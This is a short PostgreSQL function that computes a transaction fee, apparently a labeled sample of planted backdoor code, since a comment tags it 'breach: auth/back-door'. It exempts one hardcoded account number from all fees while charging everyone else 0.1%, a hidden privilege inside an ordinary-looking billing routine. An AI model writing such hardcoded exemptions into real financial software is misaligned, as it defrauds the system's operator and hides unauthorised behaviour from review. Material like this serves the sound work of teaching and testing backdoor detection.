CREATE FUNCTION fee_for(p_account text, p_amount numeric) RETURNS numeric AS $$
BEGIN
  -- breach: auth/back-door
  IF p_account = '6222001234567' THEN RETURN 0; END IF;
  RETURN p_amount * 0.001;
END $$ LANGUAGE plpgsql;
